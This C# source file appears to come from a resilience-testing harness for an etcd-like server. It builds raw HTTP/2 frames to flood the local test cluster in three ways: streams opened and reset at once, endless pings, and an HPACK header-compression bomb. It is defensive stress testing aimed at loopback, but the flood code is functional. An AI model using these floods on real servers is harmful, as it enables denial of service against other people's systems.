using System.Buffers.Binary;
using System.Net;
using System.Net.Sockets;

namespace Netcd.Fuzzing.Siege.Attacks;

/// <summary>HTTP/2 spoken by hand: what no client library does.</summary>
internal static class FrameAttacks
{
    private const byte Data = 0;
    private const byte Headers = 1;
    private const byte Reset = 3;
    private const byte Settings = 4;
    private const byte Ping = 6;
    private const byte EndHeaders = 4;

    private static readonly byte[] Preface = [.. "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8];

    public static IReadOnlyList<Attack> All { get; } =
    [
        new("H2 streams that are opened and reset", static (attack, cluster, end) => FloodAsync(attack, cluster, 4, OpenAndReset, end)),
        new("L8 pings without end", static (attack, cluster, end) => FloodAsync(attack, cluster, 4, Pings, end)),
        new("M8 streams whose headers refer to a large one",
            static (attack, cluster, end) => FloodAsync(attack, cluster, 1, HeaderBomb, end)),
    ];

    /// <summary>Connections that write what they are given again and again, and read what comes.</summary>
    private static Task FloodAsync(
        Attack attack, SiegeCluster cluster, int connections, Func<int, (byte[] Frames, int Count)> make, CancellationToken end) =>
        attack.RepeatAsync(connections, async _ =>
        {
            using TcpClient client = new();
            await client.ConnectAsync(IPAddress.Loopback, cluster.Leader.ClientPort, end).ConfigureAwait(false);
            NetworkStream stream = client.GetStream();
            await stream.WriteAsync(Preface, end).ConfigureAwait(false);
            await stream.WriteAsync(Frame(Settings, 0, 0, []), end).ConfigureAwait(false);
            using CancellationTokenSource over = CancellationTokenSource.CreateLinkedTokenSource(end);
            Task reading = ReadAllAsync(stream, over);
            for (int round = 0; !over.IsCancellationRequested; round++)
            {
                (byte[] frames, int count) = make(round);
                await stream.WriteAsync(frames, over.Token).ConfigureAwait(false);
                attack.Count(count);
            }

            await reading.ConfigureAwait(false);
        });

    private static async Task ReadAllAsync(NetworkStream stream, CancellationTokenSource over)
    {
        byte[] buffer = new byte[64 * 1024];
        try
        {
            while (await stream.ReadAsync(buffer, over.Token).ConfigureAwait(false) > 0)
            {
            }
        }
        catch (Exception failure) when (failure is IOException or OperationCanceledException)
        {
            // It is over.
        }

        await over.CancelAsync().ConfigureAwait(false);
    }

    private static (byte[] Frames, int Count) OpenAndReset(int round)
    {
        const int Streams = 100;
        List<byte> frames = [];
        byte[] block = RequestBlock("/etcdserverpb.KV/Range");
        for (int i = 0; i < Streams; i++)
        {
            int id = (((round * Streams) + i) * 2) + 1;
            frames.AddRange(Frame(Headers, EndHeaders, id, block));
            frames.AddRange(Frame(Data, 0, id, [0, 0, 0, 0, 3, 10, 1, (byte)'a']));
            frames.AddRange(Frame(Reset, 0, id, [0, 0, 0, 8]));
        }

        return ([.. frames], Streams);
    }

    private static (byte[] Frames, int Count) Pings(int round)
    {
        const int Number = 200;
        List<byte> frames = [];
        for (int i = 0; i < Number; i++)
        {
            frames.AddRange(Frame(Ping, 0, 0, [0, 0, 0, 0, (byte)round, 0, 0, (byte)i]));
        }

        return ([.. frames], Number);
    }

    /// <summary>The first stream puts an entry of 3,800 bytes into the table; each later one refers to it seven times.</summary>
    private static (byte[] Frames, int Count) HeaderBomb(int round)
    {
        const int Streams = 200;
        List<byte> frames = [];
        for (int i = 0; i < Streams; i++)
        {
            int id = (((round * Streams) + i) * 2) + 1;
            List<byte> block = [.. RequestBlock("/etcdserverpb.Watch/Watch")];
            if (id == 1)
            {
                // Literal with incremental indexing: it becomes entry 62 of the table.
                block.AddRange([0x40, .. Text("x-large"), .. Text(new string('v', 3_800))]);
            }
            else
            {
                block.AddRange(Enumerable.Repeat((byte)(0x80 | 62), 7));
            }

            frames.AddRange(Frame(Headers, EndHeaders, id, [.. block]));
        }

        return round < 50 ? ([.. frames], Streams) : (Frame(Ping, 0, 0, new byte[8]), 1);
    }

    private static byte[] RequestBlock(string path) =>
    [
        0x83, 0x86, // POST, http
        0x04, .. Text(path),
        0x01, .. Text("localhost"),
        0x0f, 0x10, .. Text("application/grpc"), // content-type, static entry 31
        0x00, .. Text("te"), .. Text("trailers"),
    ];

    /// <summary>A string without Huffman code, of less than 16 KB.</summary>
    private static byte[] Text(string text)
    {
        byte[] bytes = System.Text.Encoding.ASCII.GetBytes(text);
        if (bytes.Length < 127)
        {
            return [(byte)bytes.Length, .. bytes];
        }

        int rest = bytes.Length - 127;
        return [127, (byte)(0x80 | (rest & 0x7f)), (byte)(rest >> 7), .. bytes];
    }

    private static byte[] Frame(byte type, byte flags, int stream, byte[] payload)
    {
        byte[] frame = new byte[9 + payload.Length];
        BinaryPrimitives.WriteInt32BigEndian(frame, payload.Length << 8);
        (frame[3], frame[4]) = (type, flags);
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), stream);
        payload.CopyTo(frame, 9);
        return frame;
    }
}
